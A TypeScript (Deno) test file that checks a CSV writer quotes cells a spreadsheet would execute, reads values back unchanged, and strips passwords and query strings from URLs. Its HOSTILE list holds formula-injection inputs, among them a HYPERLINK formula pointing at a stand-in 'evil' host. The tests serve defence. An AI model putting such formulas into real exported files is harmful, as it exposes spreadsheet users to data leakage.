/** CSV that spreadsheets do not execute, and that reads back as it was. */

import { assertEquals } from "@std/assert";
import { cellText, csvLine, parseCsv } from "../../files/mod.ts";

const HOSTILE = [
  '=HYPERLINK("http://evil/?x=1","a")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "'=1",
  "''=1",
  "-",
];
const PLAIN = ["a", "'quoted'", "a=1", "B08", "1e-3", 'say "x", y', " padded ", "", "10–30 %"];

Deno.test("csvLine() quotes what a spreadsheet would execute, and keeps the rest", () => {
  for (const text of HOSTILE) {
    const cell = csvLine([text]);
    assertEquals(cell.startsWith("\"'"), true, cell);
  }
  assertEquals(csvLine(["a", "'quoted'", "a=1"]), "a,'quoted',a=1");
});

Deno.test("csvLine() leaves numbers as numbers", () => {
  assertEquals(csvLine([-1.5, 0, 1e-21, -Infinity, null, undefined]), "-1.5,0,1e-21,-Infinity,,");
});

Deno.test("cellText() gives back what csvLine() was given", () => {
  const texts = [...HOSTILE, ...PLAIN].map((text) => text.replace(/https?:\/\/\S*/, "host"));
  const names = texts.map((_, i) => `c${i}`);
  const [row] = parseCsv(`${names.join(",")}\r\n${csvLine(texts)}\r\n`, "a test");
  assertEquals(names.map((name) => cellText(row![name]!)), texts);
});

Deno.test("csvLine() leaves out query strings and passwords, cell by cell", () => {
  assertEquals(
    csvLine(["https://me:SECRET@host/a.tif?sig=SECRET", "next", 1]),
    "https://host/a.tif,next,1",
  );
});
